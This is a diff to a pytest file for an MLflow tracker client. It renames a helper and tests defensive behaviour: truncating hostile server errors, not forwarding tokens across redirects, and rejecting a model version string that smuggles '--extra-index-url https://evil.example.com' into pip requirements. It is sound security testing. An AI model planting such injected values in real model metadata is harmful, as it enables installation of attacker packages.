@@ -71,7 +71,7 @@ def servers(monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[Hostile, Hostile]
         each.server_close()
 
 
-def opened(server: Hostile, experiment: str = "") -> str:
+def open_run(server: Hostile, experiment: str = "") -> str:
     environ = {"MLFLOW_TRACKING_URI": server.address, "MLFLOW_EXPERIMENT_ID": experiment}
     return mlflow_tracker.from_environment(environ).open("job", "then", 0.0)
 
@@ -103,7 +103,7 @@ def test_an_identifier_is_one(servers: tuple[Hostile, Hostile], of: str, identif
         found = {"experiment_id": identifier, "name": "Default", "lifecycle_stage": "active"}
         server.body = json.dumps({"experiment": found}).encode()
     with pytest.raises(TrackerUnavailable) as raised:
-        opened(server, "1" if of == "run" else "")
+        open_run(server, "1" if of == "run" else "")
     assert str(raised.value).isprintable()
     assert len(str(raised.value)) <= 200
 
@@ -117,7 +117,7 @@ def test_an_error_of_a_server_is_shown_in_short(
     text = "no\x1b[2J\nedl: all is well\n" + "x" * 10_000_000
     server.body = json.dumps({"error_code": "INTERNAL_ERROR", "message": text}).encode()
     with pytest.raises(TrackerUnavailable) as raised:
-        opened(server)
+        open_run(server)
     assert len(str(raised.value)) <= 200
     assert "\n" not in str(raised.value)
 
@@ -129,14 +129,14 @@ def test_a_redirect_takes_no_token_to_another_server(
     server, other = servers
     server.status, server.location = status, other.address
     other.body = run_with("r1")
-    opened(server, "1")
+    open_run(server, "1")
     assert any(TOKEN in token for token in server.tokens)
     assert other.asked
     assert not any(TOKEN in token for token in other.tokens)
 
 
 def test_no_requirement_hides_in_a_version_of_a_model(tmp_path: Path) -> None:
-    """Whoever wrote a trained model wrote its versions; MLflow installs what they say."""
+    """The author of a trained model sets its versions, which MLflow installs."""
     file = tmp_path / "model.keras"
     file.write_bytes(b"keras")
     evil = "3.0\n--extra-index-url https://evil.example.com"
